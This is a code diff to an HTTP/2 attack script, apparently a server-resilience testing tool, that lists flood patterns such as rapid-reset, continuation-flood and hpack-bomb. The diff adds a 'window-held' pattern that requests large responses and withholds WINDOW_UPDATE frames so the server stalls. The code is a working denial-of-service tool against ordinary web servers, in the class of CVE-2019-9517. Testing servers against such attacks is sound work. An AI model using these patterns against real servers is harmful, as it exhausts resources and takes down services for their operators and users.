@@ -5,7 +5,7 @@ usage: /usr/bin/python3 attack.py PATTERN PORT [--host 127.0.0.1] [--n N] [--pat
 
 PATTERN: rapid-reset, made-you-reset, reset-flood, continuation-flood, ping-flood,
 settings-flood, empty-frames-flood, priority-flood, window-update-flood, zero-window,
-hpack-bomb, refused-stream.
+window-held, hpack-bomb, refused-stream.
 
 Speaks h2c with prior knowledge through Debian's python3-h2: the preface, SETTINGS, every
 header block (h2's HPACK encoder), RST_STREAM, PING, SETTINGS and WINDOW_UPDATE come from
@@ -267,6 +267,14 @@ def run(a):
     elif a.pattern == "zero-window":
         # SETTINGS_INITIAL_WINDOW_SIZE 0 (sent with the preface), then requests for big
         # responses, and no WINDOW_UPDATE: the server holds its data (CVE-2019-9517).
+        for i in range(a.n):
+            p.h2.send_headers(1 + 2 * i, request(a.path), end_stream=True)
+        p.flush()
+        sent["requests"] = a.n
+    elif a.pattern == "window-held":
+        # Default windows (65,535 bytes each), requests for big responses, and no
+        # WINDOW_UPDATE ever: the server sends 65,535 bytes and waits with both of its windows
+        # at 0 until the client closes, --hold seconds later.
         for i in range(a.n):
             p.h2.send_headers(1 + 2 * i, request(a.path), end_stream=True)
         p.flush()
